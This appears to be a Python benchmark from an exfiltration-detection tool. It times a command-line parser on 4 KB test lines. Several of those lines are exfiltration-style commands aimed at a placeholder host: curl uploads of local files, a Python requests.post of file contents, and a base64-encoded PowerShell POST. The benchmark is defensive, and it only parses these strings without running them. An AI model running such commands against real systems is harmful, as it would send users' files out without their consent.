"""What it takes to undo and to part command lines of 4 KB: the CPU of one call, the best of some."""

from base64 import b64encode
from collections.abc import Callable, Iterator
from time import process_time

from exfilwatch.commands.understand import understood

from .row import Row, Run, at_most

LENGTH = 4096
LIMIT = 200
"""Microseconds."""
_CALLS = 30
_SYSTEM = "C:\\Windows\\System32\\"
_POWERSHELL = f"{_SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"


def lines(asked: Run) -> list[Row]:
    """Lines of each kind; what is remembered of a line is not asked."""
    return [
        at_most(f"lines of 4 KB: {kind}", _microseconds(line, image, asked.rounds), LIMIT, "{:.0f} µs")
        for kind, line, image in kinds()
    ]


def kinds() -> Iterator[tuple[str, str, str]]:
    """What is special about a line, the line, and the program's image."""
    yield "a class path", _line("java.exe -cp C:\\app\\part.jar", "C:\\app\\lib\\part-{}.jar", ";"), "C:\\jdk\\java.exe"
    yield "a browser's switches", _line("chrome.exe", "--enable-feature=a{}"), "C:\\chrome\\chrome.exe"
    yield "an upload of many files", _line("curl.exe https://x.example/u", "-F f{0}=@C:\\data\\{0}.txt"), "curl.exe"
    careted = "^" + "^".join("curl.exe -T C:\\data\\all.zip https://x.example/u/" + "a" * 2000)
    yield "carets", f"cmd.exe /c {careted[: LENGTH - 11]}", f"{_SYSTEM}cmd.exe"
    yield "one command of bash", _line("bash -c 'curl https://x.example/u", "-F f{0}=@/home/u/{0}") + "'", "/bin/bash"
    code = _line('python.exe -c "import requests', "requests.post('https://x.example/{}', data=open('a'))", ";")
    yield "code of Python", code + '"', "C:\\Python311\\python.exe"
    text = "$text = 'a'; Invoke-RestMethod -Uri https://x.example -Method Post -Body '" + "words " * 230 + "'"
    encoded = b64encode(text.encode("utf-16-le")).decode()
    yield "an encoded command", f"powershell.exe -EncodedCommand {encoded}", _POWERSHELL
    yield "hundreds of commands of cmd", _line("cmd.exe /c echo", "copy a{0}.txt b{0}.txt", " & "), f"{_SYSTEM}cmd.exe"
    yield "hundreds of commands of bash", _line("bash -c 'echo", "cp a{0} b{0}", "; ") + "'", "/bin/bash"
    script = _line('powershell.exe -Command "$a = 1', "Get-Item C:\\data\\{0}.txt | Out-File b{0}", "; ")
    yield "dozens of statements of PowerShell", script + '"', _POWERSHELL


def _line(start: str, piece: str, between: str = " ") -> str:
    """A line of whole pieces, as many as there is room for."""
    line = start
    for number in range(LENGTH):
        more = line + between + piece.format(number)
        if len(more) >= LENGTH:
            break
        line = more
    return line


def _microseconds(line: str, image: str, rounds: int) -> float:
    undo: Callable[[str, str], object] = understood.__wrapped__
    best = float("inf")
    for _ in range(_CALLS * rounds):
        began = process_time()
        undo(line, image)
        best = min(best, process_time() - began)
    return best * 1e6
